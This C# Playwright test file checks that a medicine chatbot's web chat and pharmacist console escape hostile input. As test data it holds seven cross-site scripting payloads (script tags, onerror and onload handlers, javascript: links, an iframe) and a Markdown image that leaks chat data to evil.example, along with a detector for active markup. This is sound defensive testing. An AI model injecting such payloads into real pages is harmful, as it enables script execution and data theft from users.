using System.Text.Json;
using LabelBot.Bot.Handoff;
using LabelBot.Bot.Tests.Infrastructure;
using Microsoft.Playwright;
using Xunit.Abstractions;

namespace LabelBot.Bot.Tests.Channels.DirectLine;

/// <summary>
/// Issue 7, escaping: hostile messages (HTML with event handlers, script, a javascript: Markdown link, an iframe) typed
/// into the web chat page, and the same transcript opened in the pharmacist console, in headless Chromium. Nothing
/// runs (window.__pwned stays undefined) and the DOM holds no script, frame, event-handler attribute or script URL.
/// The pages' Content-Security-Policy would block inline script anyway, so the browser context bypasses it: these
/// tests check the escaping itself, the first line of defence.
/// </summary>
[Collection(BotHostCollection.Name)]
public sealed class WebChatInjectionTests(BotHostFixture fixture, ITestOutputHelper output)
{
    private const string ChromiumPath = "/usr/bin/chromium";
    private const float Timeout = 90_000;

    /// <summary>Each sets window.__pwned if any part of it is ever run.</summary>
    private static readonly string[] HostileMessages =
    [
        "<img src=x onerror=\"window.__pwned=1\">",
        "<script>window.__pwned=2</script>",
        "[click](javascript:window.__pwned=3)",
        "<iframe src=\"javascript:window.__pwned=4\"></iframe>",
        "<svg onload=\"window.__pwned=5\"></svg> What are the warnings for ibuprofen?",
        // A claim check quotes the user's claims back: markup in them reaches a bot message, not only the user's own.
        "Check this: <img src=x onerror=\"window.__pwned=6\"> Ibuprofen can cause stomach bleeding. <script>window.__pwned=7</script> Ibuprofen cures asthma.",
        // A Markdown image would make the browser fetch an attacker's address (the classic way to leak a chat).
        "Check this: ![x](https://evil.example/pixel.png?leak=chat) Ibuprofen can cause stomach bleeding. Ibuprofen cures asthma.",
    ];

    // Script, frames, embedded objects, images from elsewhere than this page (Web Chat's own are data: images), any
    // on* attribute, and script or non-image data URLs in link-like attributes.
    private const string FindActiveMarkup = """
        (selector) => {
          const root = document.querySelector(selector);
          if (!root) return ['no element ' + selector];
          const found = [];
          root.querySelectorAll('script, iframe, frame, object, embed').forEach(e => found.push(e.outerHTML.slice(0, 120)));
          root.querySelectorAll('img').forEach(e => {
            const src = e.getAttribute('src') || '';
            if (!/^data:image\//i.test(src) && new URL(src, location.href).origin !== location.origin) found.push(e.outerHTML.slice(0, 120));
            if (src === 'x') found.push(e.outerHTML.slice(0, 120));
          });
          root.querySelectorAll('*').forEach(e => {
            for (const a of e.attributes) {
              if (a.name.toLowerCase().startsWith('on')) found.push(e.tagName + ' ' + a.name + '=' + a.value);
              if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(a.name.toLowerCase())
                  && /^\s*((javascript|vbscript):|data:(?!image\/))/i.test(a.value)) found.push(e.tagName + ' ' + a.name + '=' + a.value);
            }
          });
          return found;
        }
        """;

    [Fact]
    public async Task Hostile_messages_in_web_chat_render_as_text_and_run_nothing()
    {
        await using var browser = await LaunchAsync();
        var page = await NewPageAsync(browser);
        await page.GotoAsync(fixture.Host.BaseUrl.ToString());
        await page.GetByText("I answer questions about medicines").First.WaitForAsync(new() { Timeout = Timeout });

        var sendBox = page.Locator("[data-id='webchat-sendbox-input']");
        var botBubbles = page.Locator(".webchat__bubble:not(.webchat__bubble--from-user)");
        // A plain question last, so a cited answer (Markdown text with citation buttons) is in the scanned transcript too.
        foreach (var message in HostileMessages.Append("What are the warnings for ibuprofen?"))
        {
            var before = await botBubbles.CountAsync();
            await sendBox.FillAsync(message);
            await sendBox.PressAsync("Enter");
            await WaitUntilAsync(async () => await botBubbles.CountAsync() > before, $"no bot reply to {message}");
        }
        await page.Locator(".webchat__render-markdown__citation").First.WaitForAsync(new() { Timeout = Timeout });

        var transcript = await page.Locator("#webchat").InnerTextAsync();
        output.WriteLine(transcript);
        Assert.True(await IsUnpwnedAsync(page), "a hostile message ran script in the web chat page");
        var active = await page.EvaluateAsync<string[]>(FindActiveMarkup, "#webchat");
        Assert.True(active.Length == 0, "active markup in the transcript DOM: " + string.Join(" | ", active));
        // Escaped, not executed or silently dropped: the user sees what they typed.
        Assert.Contains("<script>window.__pwned=2</script>", transcript, StringComparison.Ordinal);
        Assert.Contains("onerror=\"window.__pwned=1\"", transcript, StringComparison.Ordinal);
        // The claim check's reply quotes the claim back: its script tag is on screen in a bot message too, as text.
        Assert.True(Occurrences(transcript, "window.__pwned=7</script>") > Occurrences(transcript, "Check this: <img src=x"),
            "the bot's quote of the claim does not show its markup as text");

        // The citation pop-up (label text rendered as Markdown) holds no active markup either.
        await page.Locator(".webchat__render-markdown__citation").Last.ClickAsync();
        await page.Locator("dialog.webchat__citation-modal-dialog").WaitForAsync(new() { Timeout = Timeout });
        var inPopup = await page.EvaluateAsync<string[]>(FindActiveMarkup, "dialog.webchat__citation-modal-dialog");
        Assert.True(inPopup.Length == 0, "active markup in the citation pop-up: " + string.Join(" | ", inPopup));
        Assert.True(await IsUnpwnedAsync(page), "the citation pop-up ran script");
    }

    [Fact]
    public async Task Pharmacist_console_shows_a_hostile_transcript_html_encoded_and_runs_nothing()
    {
        var client = new DirectLineTestClient(fixture.Host.Http);
        await client.StartAsync();
        foreach (var message in HostileMessages)
        {
            var id = await client.PostTextAsync(message);
            await client.WaitForBotMessageAsync(a => (string?)a["replyToId"] == id);
        }
        var requestId = await client.PostTextAsync(HandoffCommands.TalkToPharmacist);
        var caseId = CaseIds.From(await client.WaitForBotMessageAsync(a => (string?)a["replyToId"] == requestId));

        await using var browser = await LaunchAsync();
        var page = await NewPageAsync(browser);
        await page.GotoAsync(new Uri(fixture.Host.BaseUrl, "pharmacist/signin").ToString());
        await page.Locator("input[name='name']").FillAsync("Robin Injection-Test");
        await page.Locator("input[name='key']").FillAsync(BotHostFixture.PharmacistKey);
        await page.Locator("form[action='/pharmacist/signin'] button[type='submit']").ClickAsync();
        await page.WaitForURLAsync(url => !url.Contains("/signin", StringComparison.Ordinal), new() { Timeout = Timeout });

        var response = await page.GotoAsync(new Uri(fixture.Host.BaseUrl, $"pharmacist/cases/{caseId}").ToString());
        Assert.NotNull(response);
        Assert.Equal(200, response.Status);
        var html = await response.TextAsync();
        var text = await page.Locator("body").InnerTextAsync();

        Assert.True(await IsUnpwnedAsync(page), "a hostile transcript ran script in the pharmacist console");
        var active = await page.EvaluateAsync<string[]>(FindActiveMarkup, "body");
        Assert.True(active.Length == 0, "active markup in the console DOM: " + string.Join(" | ", active));
        foreach (var message in HostileMessages)
        {
            // Shown to the pharmacist exactly as the user typed it, because the page sent it HTML-encoded.
            Assert.Contains(message, text, StringComparison.Ordinal);
        }
        Assert.Contains("&lt;script&gt;window.__pwned=2&lt;/script&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>window.__pwned", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
    }

    private static async Task<BrowserSession> LaunchAsync()
    {
        // Fails (never skips) without the browser, like WebChatEndToEndTests: CI installs it with apt-get install chromium.
        Assert.True(File.Exists(ChromiumPath), $"{ChromiumPath} is missing: install it with `apt-get update && apt-get install -y chromium` (CI does).");
        var playwright = await Playwright.CreateAsync();
        var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
        {
            ExecutablePath = ChromiumPath,
            Headless = true,
            Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
        });
        return new BrowserSession(playwright, browser);
    }

    private static async Task<IPage> NewPageAsync(BrowserSession browser)
    {
        var context = await browser.Browser.NewContextAsync(new BrowserNewContextOptions
        {
            BypassCSP = true,
            ViewportSize = new ViewportSize { Width = 1100, Height = 1400 },
        });
        return await context.NewPageAsync();
    }

    private static int Occurrences(string text, string value) => (text.Length - text.Replace(value, string.Empty, StringComparison.Ordinal).Length) / value.Length;

    private static async Task<bool> IsUnpwnedAsync(IPage page)
    {
        // Give any handler that an image error or an svg load could fire a moment to run.
        await page.WaitForTimeoutAsync(500);
        var state = await page.EvaluateAsync<JsonElement>("() => typeof window.__pwned");
        return state.GetString() == "undefined";
    }

    private static async Task WaitUntilAsync(Func<Task<bool>> condition, string failure)
    {
        var deadline = DateTime.UtcNow.AddMilliseconds(Timeout);
        while (!await condition())
        {
            Assert.True(DateTime.UtcNow < deadline, failure);
            await Task.Delay(200);
        }
    }

    /// <summary>Playwright and its browser, closed together.</summary>
    private sealed class BrowserSession(IPlaywright playwright, IBrowser browser) : IAsyncDisposable
    {
        public IBrowser Browser { get; } = browser;

        public async ValueTask DisposeAsync()
        {
            await Browser.DisposeAsync();
            playwright.Dispose();
        }
    }
}
